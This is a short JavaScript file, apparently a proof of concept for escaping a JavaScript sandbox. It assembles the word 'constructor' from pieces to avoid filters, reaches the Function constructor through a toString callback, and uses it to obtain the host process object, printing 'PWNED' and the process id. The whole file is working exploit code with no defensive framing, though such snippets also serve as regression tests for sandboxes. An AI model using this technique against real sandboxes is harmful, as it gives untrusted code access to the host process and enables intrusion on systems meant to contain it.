'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
let got;
const t = 'x';
t[w]({ toString() { got = fn[w]; return 'x'; } });
console.log('PWNED', got('return process')().pid);
